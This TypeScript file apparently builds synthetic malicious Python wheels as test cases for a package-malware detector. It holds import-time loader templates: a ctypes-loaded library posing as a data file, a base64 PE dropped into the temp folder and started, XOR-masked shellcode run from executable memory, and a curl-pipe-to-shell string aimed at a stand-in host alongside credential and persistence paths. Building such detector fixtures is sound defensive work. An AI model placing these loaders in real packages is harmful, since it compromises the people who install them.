import { importingWheel, techniques } from './drafts.ts';
import { makeElf } from './elf.ts';
import { base64, blob, xor } from './encoders.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { ctypesLibrary, machineFacts, nativeExtension } from './look-alikes/native.ts';
import { makePe } from './pe.ts';
import { py, pyBytes } from './python-text.ts';

const IMPLANT_IMPORTS = {
  'libc.so.6': ['socket', 'connect', 'dup2', 'execve', 'fork', 'setsid', 'gethostname', 'mprotect'],
};

/** A shared object that is called a data file. */
const disguised = (c: Remote): Draft =>
  importingWheel({
    name: 'numkernels',
    about: 'Kernels',
    files: {
      'numkernels/data/weights.dat': makeElf({
        seed: 'numkernels',
        imports: IMPLANT_IMPORTS,
        exports: ['run_kernel'],
        strings: [c.address, '/bin/sh', '/etc/cron.d/numkernels', '.ssh/authorized_keys'],
        isLibrary: true,
        textBytes: 90_000,
      }),
    },
    code: py`
import ctypes
import os

_weights = os.path.join(os.path.dirname(__file__), "data", "weights.dat")
ctypes.CDLL(_weights, mode=ctypes.RTLD_GLOBAL).run_kernel()
`,
  });

/** A program inside the source, written to the temporary folder and started. */
const embedded = (c: Remote): Draft => {
  const program = makePe({
    seed: 'embedded',
    imports: {
      'KERNEL32.dll': ['CreateRemoteThread', 'WriteProcessMemory', 'VirtualAllocEx', 'OpenProcess'],
      'WININET.dll': ['InternetOpenUrlA', 'InternetReadFile'],
    },
    strings: [c.url('/gate.php'), 'explorer.exe'],
    textBytes: 24_000,
  });
  return importingWheel({
    name: 'winclock',
    about: 'Clocks',
    code: py`
import base64
import os
import subprocess
import tempfile


def calibrate():
    """Calibrate the clock."""
    path = os.path.join(tempfile.gettempdir(), "clockcal.exe")
    with open(path, "wb") as stream:
        stream.write(base64.b64decode("${base64(program)}"))
    subprocess.Popen(path, shell=True)


if os.name == "nt":
    calibrate()
`,
  });
};

/** Code bytes un-masked into executable memory. */
const shellcode = (): Draft => {
  const key = blob('shellcode key', 16);
  const masked = xor(blob('shellcode', 460), key);
  return importingWheel({
    name: 'fastcrc-native',
    about: 'Checksums',
    code: py`
import ctypes
import sys

_TABLE = ${pyBytes(masked)}
_POLY = ${pyBytes(key)}


def _kernel():
    code = bytes(byte ^ _POLY[index % len(_POLY)] for index, byte in enumerate(_TABLE))
    memory = ctypes.windll.kernel32.VirtualAlloc(None, len(code), 0x3000, 0x40)
    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(memory), code, len(code))
    handle = ctypes.windll.kernel32.CreateThread(None, 0, ctypes.c_void_p(memory), None, 0, None)
    ctypes.windll.kernel32.WaitForSingleObject(handle, 0xFFFFFFFF)


if sys.platform == "win32":
    _kernel()
`,
  });
};

/** Two lines of Python; everything else is in an extension module. */
const extensionOnly = (c: Remote): Draft => ({
  ...importingWheel({
    name: 'hashbridge',
    about: 'Hashes',
    files: {
      'hashbridge/_bridge.cpython-312-x86_64-linux-gnu.so': makeElf({
        seed: 'hashbridge',
        imports: {
          'libc.so.6': ['system', 'popen', 'getenv', 'gethostname'],
          'libpython3.12.so.1.0': ['PyModule_Create2'],
        },
        exports: ['PyInit__bridge'],
        strings: [`curl -fsSL ${c.url('/i.sh')} | sh >/dev/null 2>&1 &`, '/bin/sh', 'AWS_SECRET_ACCESS_KEY', '.bashrc'],
        isLibrary: true,
        textBytes: 30_000,
      }),
    },
    code: '\nfrom ._bridge import digest\n',
  }),
  wheel: { tag: 'cp312-cp312-manylinux_2_17_x86_64' },
});

const technique = techniques('https://attack.mitre.org/techniques/T1129/', 'https://edge.asset-mirror.invalid');

export const NATIVE: readonly Replay[] = [
  technique(
    '29a-disguised-library',
    'a shared object named weights.dat, loaded through ctypes',
    'import loads a native library that is called a data file and calls a function of it',
    disguised,
    { lookAlikes: () => [ctypesLibrary()] },
  ),
  technique(
    '29b-embedded-program',
    'a PE file in base64, written to the temporary folder and started',
    'import on Windows decodes a program from the source, writes it to the temporary folder and starts it',
    embedded,
  ),
  technique(
    '29c-shellcode',
    'machine code un-masked into executable memory',
    'import on Windows un-masks 460 bytes, copies them into executable memory and starts a thread there',
    shellcode,
    { remote: '', lookAlikes: () => [machineFacts()] },
  ),
  technique(
    '29d-extension-only',
    'two lines of Python around an extension module that calls a shell',
    'import loads an extension module whose constants pipe a download into a shell through system()',
    extensionOnly,
    { lookAlikes: () => [nativeExtension()] },
  ),
];
